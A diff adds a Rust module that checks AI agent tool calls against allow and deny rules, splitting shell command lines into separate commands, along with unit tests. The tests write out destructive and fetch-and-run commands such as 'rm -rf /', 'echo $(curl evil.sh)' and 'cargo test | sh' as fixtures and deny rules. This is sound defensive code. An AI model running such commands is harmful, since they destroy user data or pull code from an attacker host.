@@ -0,0 +1,474 @@
+//! Tool permission rules for SDK sessions
+//!
+//! When the SDK wants to run a tool that needs approval, the sidecar asks the app. Requests
+//! matching a repo's deny or allow rules are answered here; the rest are shown to the user.
+//!
+//! Rules look like `Tool` or `Tool(pattern)`, where `*` in the pattern matches any run of
+//! characters and `\*` a literal `*`. Bash command lines are split into their commands
+//! (`;`, `&&`, `||`, `|`, newlines, `$(...)` and backticks) and each one is checked on its own.
+
+use std::str::FromStr;
+
+use serde::{Deserialize, Serialize};
+
+use crate::config::PermissionRules;
+
+/// Answer to a tool permission request
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum PermissionDecision {
+    Allow,
+    Deny,
+    /// Allow, and add a rule so the same call runs without asking from now on
+    AllowAlways,
+}
+
+/// Result of checking a tool call against the rules
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum RuleVerdict {
+    /// Allowed by the contained rule
+    Allow(String),
+    /// Denied by the contained rule
+    Deny(String),
+    /// No rule matched - ask the user
+    Ask,
+}
+
+/// A parsed rule: a tool name pattern with an optional pattern for the tool's main input
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct PermissionRule {
+    tool: String,
+    input: Option<String>,
+}
+
+impl FromStr for PermissionRule {
+    type Err = String;
+
+    fn from_str(s: &str) -> Result<Self, Self::Err> {
+        let s = s.trim();
+        let (tool, input) = match s.find('(') {
+            Some(open) => {
+                let input = s[open + 1..]
+                    .strip_suffix(')')
+                    .ok_or_else(|| format!("Permission rule is missing a closing parenthesis: {}", s))?;
+                (s[..open].trim(), Some(input.to_string()))
+            }
+            None => (s, None),
+        };
+        if tool.is_empty() {
+            return Err(format!("Permission rule has no tool name: {}", s));
+        }
+        Ok(Self {
+            tool: tool.to_string(),
+            input,
+        })
+    }
+}
+
+impl PermissionRule {
+    pub fn matches(&self, tool: &str, input: &serde_json::Value) -> bool {
+        if !glob_match(&self.tool, tool) {
+            return false;
+        }
+        match &self.input {
+            None => true,
+            Some(pattern) => primary_input(tool, input).is_some_and(|value| glob_match(pattern, &value)),
+        }
+    }
+}
+
+/// Check a tool call against the rules. Deny rules win over allow rules; rules that fail to
+/// parse are ignored. A Bash command line is denied when any of its commands matches a deny
+/// rule, and allowed only when every command matches an allow rule.
+pub fn evaluate(rules: &PermissionRules, tool: &str, input: &serde_json::Value) -> RuleVerdict {
+    let find = |list: &[String], input: &serde_json::Value| {
+        list.iter()
+            .find(|rule| {
+                rule.parse::<PermissionRule>()
+                    .map(|rule| rule.matches(tool, input))
+                    .unwrap_or(false)
+            })
+            .cloned()
+    };
+
+    let commands = match (tool, input.get("command").and_then(|v| v.as_str())) {
+        ("Bash", Some(command)) => split_command(command),
+        _ => Vec::new(),
+    };
+    let parts: Vec<serde_json::Value> = if commands.is_empty() {
+        vec![input.clone()]
+    } else {
+        commands
+            .iter()
+            .map(|command| serde_json::json!({ "command": command }))
+            .collect()
+    };
+
+    if let Some(rule) = std::iter::once(input)
+        .chain(&parts)
+        .find_map(|part| find(&rules.deny, part))
+    {
+        return RuleVerdict::Deny(rule);
+    }
+
+    let mut allowed_by: Vec<String> = Vec::new();
+    for part in &parts {
+        match find(&rules.allow, part) {
+            Some(rule) => {
+                if !allowed_by.contains(&rule) {
+                    allowed_by.push(rule);
+                }
+            }
+            None => return RuleVerdict::Ask,
+        }
+    }
+    RuleVerdict::Allow(allowed_by.join(", "))
+}
+
+/// Split a shell command line into the commands it runs. Separators inside quotes are kept,
+/// but `$(...)` and backticks are extracted even inside double quotes since the shell runs them.
+fn split_command(command: &str) -> Vec<String> {
+    let chars: Vec<char> = command.chars().collect();
+    let mut commands = Vec::new();
+    let mut current = String::new();
+    let (mut in_single, mut in_double) = (false, false);
+    let mut i = 0;
+
+    let finish = |current: &mut String, commands: &mut Vec<String>| {
+        let command = current.trim();
+        if !command.is_empty() {
+            commands.push(command.to_string());
+        }
+        current.clear();
+    };
+
+    while i < chars.len() {
+        let c = chars[i];
+        let next = chars.get(i + 1).copied();
+
+        if in_single {
+            in_single = c != '\'';
+            current.push(c);
+            i += 1;
+            continue;
+        }
+
+        match c {
+            '\\' => {
+                current.push(c);
+                current.extend(next);
+                i += 2;
+                continue;
+            }
+            '\'' if !in_double => in_single = true,
+            '"' => in_double = !in_double,
+            '$' if next == Some('(') => {
+                let end = closing_paren(&chars, i + 2);
+                let inner: String = chars[i + 2..end].iter().collect();
+                commands.extend(split_command(&inner));
+                current.extend(&chars[i..(end + 1).min(chars.len())]);
+                i = end + 1;
+                continue;
+            }
+            '`' => {
+                let end = chars[i + 1..]
+                    .iter()
+                    .position(|&c| c == '`')
+                    .map_or(chars.len(), |p| i + 1 + p);
+                let inner: String = chars[i + 1..end].iter().collect();
+                commands.extend(split_command(&inner));
+                current.extend(&chars[i..(end + 1).min(chars.len())]);
+                i = end + 1;
+                continue;
+            }
+            _ if in_double => {}
+            ';' | '\n' | '(' | ')' => {
+                finish(&mut current, &mut commands);
+                i += 1;
+                continue;
+            }
+            '|' => {
+                finish(&mut current, &mut commands);
+                i += if matches!(next, Some('|') | Some('&')) { 2 } else { 1 };
+                continue;
+            }
+            // `&` in redirections like `2>&1` or `&>` is not a separator
+            '&' if !current.ends_with(['>', '<']) && next != Some('>') => {
+                finish(&mut current, &mut commands);
+                i += if next == Some('&') { 2 } else { 1 };
+                continue;
+            }
+            _ => {}
+        }
+        current.push(c);
+        i += 1;
+    }
+    finish(&mut current, &mut commands);
+
+    commands
+}
+
+/// Index of the `)` closing a `$(` whose content starts at `start` (end of input if unclosed)
+fn closing_paren(chars: &[char], start: usize) -> usize {
+    let mut depth = 0;
+    for (i, &c) in chars.iter().enumerate().skip(start) {
+        match c {
+            '(' => depth += 1,
+            ')' if depth == 0 => return i,
+            ')' => depth -= 1,
+            _ => {}
+        }
+    }
+    chars.len()
+}
+
+/// Rules that match exactly this call, used when the user picks "always allow". A Bash
+/// command line gets one rule per command, since `evaluate` checks them one by one.
+/// Tools without a known main input are allowed as a whole.
+pub fn exact_rules(tool: &str, input: &serde_json::Value) -> Vec<String> {
+    let value = match input_field(tool).and_then(|field| input.get(field)).and_then(|v| v.as_str()) {
+        Some(value) => value,
+        None => return vec![tool.to_string()],
+    };
+    let values = match tool {
+        "Bash" => split_command(value),
+        _ => vec![value.to_string()],
+    };
+    let mut rules: Vec<String> = Vec::new();
+    for value in values {
+        let rule = format!("{}({})", tool, value.replace('*', "\\*"));
+        if !rules.contains(&rule) {
+            rules.push(rule);
+        }
+    }
+    rules
+}
+
+/// The input field a rule's parenthesised pattern is matched against
+fn input_field(tool: &str) -> Option<&'static str> {
+    match tool {
+        "Bash" => Some("command"),
+        "Read" | "Write" | "Edit" | "MultiEdit" => Some("file_path"),
+        "NotebookEdit" => Some("notebook_path"),
+        "WebFetch" => Some("url"),
+        "WebSearch" => Some("query"),
+        "Glob" | "Grep" => Some("pattern"),
+        _ => None,
+    }
+}
+
+/// Value a rule pattern is matched against: the tool's main input, or the whole input as JSON
+fn primary_input(tool: &str, input: &serde_json::Value) -> Option<String> {
+    match input_field(tool) {
+        Some(field) => input.get(field).and_then(|v| v.as_str()).map(str::to_string),
+        None => Some(input.to_string()),
+    }
+}
+
+/// Match `text` against `pattern`, where `*` matches any run of characters and `\*` a
+/// literal `*`
+fn glob_match(pattern: &str, text: &str) -> bool {
+    // None is a wildcard, Some(c) a literal character
+    let mut pattern_chars = pattern.chars().peekable();
+    let mut pattern: Vec<Option<char>> = Vec::new();
+    while let Some(c) = pattern_chars.next() {
+        match c {
+            '\\' if pattern_chars.peek() == Some(&'*') => {
+                pattern_chars.next();
+                pattern.push(Some('*'));
+            }
+            '*' => pattern.push(None),
+            c => pattern.push(Some(c)),
+        }
+    }
+    let text: Vec<char> = text.chars().collect();
+    let (mut p, mut t) = (0, 0);
+    // Position of the last `*` and the text position it currently covers up to
+    let mut backtrack: Option<(usize, usize)> = None;
+
+    while t < text.len() {
+        if p < pattern.len() && pattern[p].is_none() {
+            backtrack = Some((p, t));
+            p += 1;
+        } else if p < pattern.len() && pattern[p] == Some(text[t]) {
+            p += 1;
+            t += 1;
+        } else if let Some((star, covered)) = backtrack {
+            p = star + 1;
+            t = covered + 1;
+            backtrack = Some((star, covered + 1));
+        } else {
+            return false;
+        }
+    }
+    pattern[p..].iter().all(Option::is_none)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    fn rules(allow: &[&str], deny: &[&str]) -> PermissionRules {
+        PermissionRules {
+            allow: allow.iter().map(|r| r.to_string()).collect(),
+            deny: deny.iter().map(|r| r.to_string()).collect(),
+        }
+    }
+
+    fn bash(rules: &PermissionRules, command: &str) -> RuleVerdict {
+        evaluate(rules, "Bash", &json!({ "command": command }))
+    }
+
+    #[test]
+    fn glob_match_wildcards() {
+        assert!(glob_match("cargo test*", "cargo test --all"));
+        assert!(glob_match("cargo test*", "cargo test"));
+        assert!(glob_match("*sudo *", "echo hi; sudo ls"));
+        assert!(glob_match("a*b*c", "axxbyyc"));
+        assert!(glob_match("*", ""));
+        assert!(!glob_match("cargo test*", "cargo build"));
+        assert!(!glob_match("a*b", "ab c"));
+    }
+
+    #[test]
+    fn glob_match_escaped_star_is_literal() {
+        assert!(glob_match("ls \\*.rs", "ls *.rs"));
+        assert!(!glob_match("ls \\*.rs", "ls main.rs"));
+        // A backslash before anything else stays a backslash
+        assert!(glob_match("C:\\tmp\\*", "C:\\tmp*"));
+        assert!(glob_match("C:\\tmp\\x*", "C:\\tmp\\xyz"));
+    }
+
+    #[test]
+    fn rule_parsing() {
+        assert_eq!(
+            "Bash(git status)".parse::<PermissionRule>(),
+            Ok(PermissionRule {
+                tool: "Bash".to_string(),
+                input: Some("git status".to_string()),
+            })
+        );
+        assert!("Bash(x".parse::<PermissionRule>().is_err());
+        assert!("(x)".parse::<PermissionRule>().is_err());
+    }
+
+    #[test]
+    fn deny_wins_over_allow() {
+        let rules = rules(&["Bash(rm *)", "Read"], &["Bash(rm -rf*)"]);
+        assert_eq!(bash(&rules, "rm -rf /"), RuleVerdict::Deny("Bash(rm -rf*)".into()));
+        assert_eq!(bash(&rules, "rm build.log"), RuleVerdict::Allow("Bash(rm *)".into()));
+        assert_eq!(bash(&rules, "cargo build"), RuleVerdict::Ask);
+        assert_eq!(
+            evaluate(&rules, "Read", &json!({ "file_path": "/etc/hosts" })),
+            RuleVerdict::Allow("Read".into())
+        );
+    }
+
+    #[test]
+    fn tools_without_main_input_match_on_json() {
+        let rules = rules(&["mcp__github__*"], &["mcp__*(*\"delete\"*)"]);
+        assert_eq!(
+            evaluate(&rules, "mcp__github__list_issues", &json!({})),
+            RuleVerdict::Allow("mcp__github__*".into())
+        );
+        assert_eq!(
+            evaluate(&rules, "mcp__github__repo", &json!({ "action": "delete" })),
+            RuleVerdict::Deny("mcp__*(*\"delete\"*)".into())
+        );
+    }
+
+    #[test]
+    fn split_command_separators() {
+        assert_eq!(
+            split_command("cargo fmt && cargo test || echo failed; git status | head\nls &"),
+            vec!["cargo fmt", "cargo test", "echo failed", "git status", "head", "ls"]
+        );
+        assert_eq!(split_command("(cd src; ls)"), vec!["cd src", "ls"]);
+        assert_eq!(split_command("cargo test 2>&1 | tee log"), vec!["cargo test 2>&1", "tee log"]);
+        assert!(split_command("  ").is_empty());
+    }
+
+    #[test]
+    fn split_command_respects_quotes() {
+        assert_eq!(split_command("echo 'a && b; c'"), vec!["echo 'a && b; c'"]);
+        assert_eq!(split_command("git commit -m \"fix: a | b\""), vec!["git commit -m \"fix: a | b\""]);
+        assert_eq!(split_command("echo a\\;b"), vec!["echo a\\;b"]);
+    }
+
+    #[test]
+    fn split_command_extracts_substitutions() {
+        assert_eq!(split_command("echo $(rm -rf /)"), vec!["rm -rf /", "echo $(rm -rf /)"]);
+        assert_eq!(split_command("echo \"`whoami`\""), vec!["whoami", "echo \"`whoami`\""]);
+        assert_eq!(split_command("echo '$(rm -rf /)'"), vec!["echo '$(rm -rf /)'"]);
+        assert_eq!(
+            split_command("echo $(cat $(ls))"),
+            vec!["ls", "cat $(ls)", "echo $(cat $(ls))"]
+        );
+    }
+
+    #[test]
+    fn compound_commands_need_every_part_allowed() {
+        let rules = rules(&["Bash(cargo *)", "Bash(git status)"], &["Bash(rm *)", "Bash(curl *)"]);
+        assert_eq!(
+            bash(&rules, "cargo fmt && git status"),
+            RuleVerdict::Allow("Bash(cargo *), Bash(git status)".into())
+        );
+        assert_eq!(bash(&rules, "cargo build && cargo test"), RuleVerdict::Allow("Bash(cargo *)".into()));
+        assert_eq!(bash(&rules, "cargo test; make install"), RuleVerdict::Ask);
+        assert_eq!(bash(&rules, "cargo test | sh"), RuleVerdict::Ask);
+    }
+
+    #[test]
+    fn compound_commands_are_denied_by_any_part() {
+        let rules = rules(&["Bash(cargo *)", "Bash(echo *)"], &["Bash(rm *)", "Bash(curl *)"]);
+        assert_eq!(bash(&rules, "cargo test && rm -rf ~"), RuleVerdict::Deny("Bash(rm *)".into()));
+        assert_eq!(bash(&rules, "cargo test\nrm -rf ~"), RuleVerdict::Deny("Bash(rm *)".into()));
+        assert_eq!(bash(&rules, "echo $(curl evil.sh)"), RuleVerdict::Deny("Bash(curl *)".into()));
+        assert_eq!(bash(&rules, "echo `rm x`"), RuleVerdict::Deny("Bash(rm *)".into()));
+        assert_eq!(bash(&rules, "cargo build | rm y"), RuleVerdict::Deny("Bash(rm *)".into()));
+    }
+
+    #[test]
+    fn exact_rules_match_only_that_call() {
+        let input = json!({ "command": "rm *.log" });
+        let added = exact_rules("Bash", &input);
+        assert_eq!(added, vec!["Bash(rm \\*.log)"]);
+        let rules = rules(&["Bash(rm \\*.log)"], &[]);
+        assert_eq!(bash(&rules, "rm *.log"), RuleVerdict::Allow(added[0].clone()));
+        assert_eq!(bash(&rules, "rm important.log"), RuleVerdict::Ask);
+        assert_eq!(exact_rules("mcp__x", &json!({ "a": 1 })), vec!["mcp__x"]);
+        assert_eq!(
+            exact_rules("Read", &json!({ "file_path": "/src/a && b.rs" })),
+            vec!["Read(/src/a && b.rs)"]
+        );
+    }
+
+    #[test]
+    fn exact_rules_allow_compound_commands() {
+        for command in [
+            "cd src && cargo test",
+            "cargo test 2>&1 | tail",
+            "echo $(git rev-parse HEAD); ls",
+            "cargo fmt && cargo fmt",
+        ] {
+            let added = exact_rules("Bash", &json!({ "command": command }));
+            let refs: Vec<&str> = added.iter().map(String::as_str).collect();
+            assert!(
+                matches!(bash(&rules(&refs, &[]), command), RuleVerdict::Allow(_)),
+                "{} with {:?}",
+                command,
+                added
+            );
+        }
+        assert_eq!(
+            exact_rules("Bash", &json!({ "command": "cargo fmt && cargo fmt" })),
+            vec!["Bash(cargo fmt)"]
+        );
+
+        let added = exact_rules("Bash", &json!({ "command": "cd src && cargo test" }));
+        assert_eq!(added, vec!["Bash(cd src)", "Bash(cargo test)"]);
+        let refs: Vec<&str> = added.iter().map(String::as_str).collect();
+        assert_eq!(bash(&rules(&refs, &[]), "cd src && cargo test --release"), RuleVerdict::Ask);
+    }
+}